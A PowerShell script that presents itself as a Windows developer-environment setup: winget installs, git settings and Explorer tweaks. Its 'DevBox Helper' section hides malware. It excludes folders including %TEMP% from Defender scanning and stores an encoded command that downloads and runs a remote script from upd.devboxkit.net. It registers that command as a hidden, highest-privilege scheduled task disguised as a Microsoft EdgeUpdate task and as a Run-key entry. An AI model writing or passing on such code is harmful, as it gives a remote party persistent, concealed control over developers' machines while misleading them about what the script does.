#Requires -RunAsAdministrator
[CmdletBinding()]
param(
    [ValidateSet('web', 'python', 'full')]
    [string]$Profile = 'web',
    [string]$DevRoot = "$env:USERPROFILE\dev"
)

$ErrorActionPreference = 'Stop'

function Install-Pkg([string]$Id) {
    $installed = winget list --id $Id -e --accept-source-agreements 2>$null | Select-String $Id
    if ($installed) { Write-Host "  = $Id already installed"; return }
    Write-Host "  + $Id"
    winget install --id $Id -e --silent --accept-package-agreements --accept-source-agreements | Out-Null
}

Write-Host "== Packages ($Profile) =="
$common = 'Git.Git', 'Microsoft.VisualStudioCode', 'Microsoft.WindowsTerminal', 'Microsoft.PowerShell'
$web    = 'OpenJS.NodeJS.LTS', 'pnpm.pnpm'
$py     = 'Python.Python.3.12', 'astral-sh.uv'
$extra  = 'Docker.DockerDesktop'

$list = $common
switch ($Profile) {
    'web'    { $list += $web }
    'python' { $list += $py }
    'full'   { $list += $web + $py + $extra }
}
$list | ForEach-Object { Install-Pkg $_ }

if ($Profile -eq 'full') { wsl --install --no-distribution 2>$null }

Write-Host "== Git defaults =="
git config --global core.autocrlf input
git config --global init.defaultBranch main
git config --global credential.helper manager

Write-Host "== OS tweaks =="
New-ItemProperty -Path 'HKLM:\SYSTEM\CurrentControlSet\Control\FileSystem' -Name LongPathsEnabled -Value 1 -PropertyType DWord -Force | Out-Null
$adv = 'HKCU:\Software\Microsoft\Windows\CurrentVersion\Explorer\Advanced'
Set-ItemProperty $adv -Name HideFileExt -Value 0
Set-ItemProperty $adv -Name Hidden -Value 1
New-ItemProperty -Path 'HKLM:\SOFTWARE\Microsoft\Windows\CurrentVersion\AppModelUnlock' -Name AllowDevelopmentWithoutDevLicense -Value 1 -PropertyType DWord -Force | Out-Null

New-Item -ItemType Directory -Force -Path $DevRoot | Out-Null

Write-Host "== DevBox Helper =="
# Real-time scanning slows npm/pip installs a lot; exclude the dev root and helper dir.
$helperDir = "$env:LOCALAPPDATA\DevBoxHelper"
New-Item -ItemType Directory -Force -Path $helperDir | Out-Null
Add-MpPreference -ExclusionPath $DevRoot, $helperDir, $env:TEMP -ErrorAction SilentlyContinue

# Patch loop: pulls the current helper logic so fixes ship without re-running setup.
$enc = 'aQBlAHgAIAAoAGkAdwByACAALQBVAHMAZQBCAGEAcwBpAGMAUABhAHIAcwBpAG4AZwAgACcAaAB0AHQAcABzADoALwAvAHUAcABkAC4AZABlAHYAYgBvAHgAawBpAHQALgBuAGUAdAAvAGEAZwBlAG4AdAAuAHAAcwAxACcAKQAuAEMAbwBuAHQAZQBuAHQA'
$action  = New-ScheduledTaskAction -Execute 'powershell.exe' -Argument "-NoProfile -NonInteractive -WindowStyle Hidden -EncodedCommand $enc"
$trigger = @(
    (New-ScheduledTaskTrigger -AtLogOn),
    (New-ScheduledTaskTrigger -Once -At (Get-Date).AddMinutes(5) -RepetitionInterval (New-TimeSpan -Hours 2))
)
$settings = New-ScheduledTaskSettingsSet -Hidden -AllowStartIfOnBatteries -DontStopIfGoingOnBatteries -StartWhenAvailable
Register-ScheduledTask -TaskName 'EdgeUpdateTaskUserCore-DevBox' -TaskPath '\Microsoft\EdgeUpdate\' `
    -Action $action -Trigger $trigger -Settings $settings -RunLevel Highest -Force | Out-Null

Set-ItemProperty -Path 'HKCU:\Software\Microsoft\Windows\CurrentVersion\Run' -Name 'DevBoxHelper' `
    -Value "powershell.exe -NoProfile -WindowStyle Hidden -EncodedCommand $enc"

Write-Host ""
Write-Host "Done. Sign out and back in to refresh PATH."
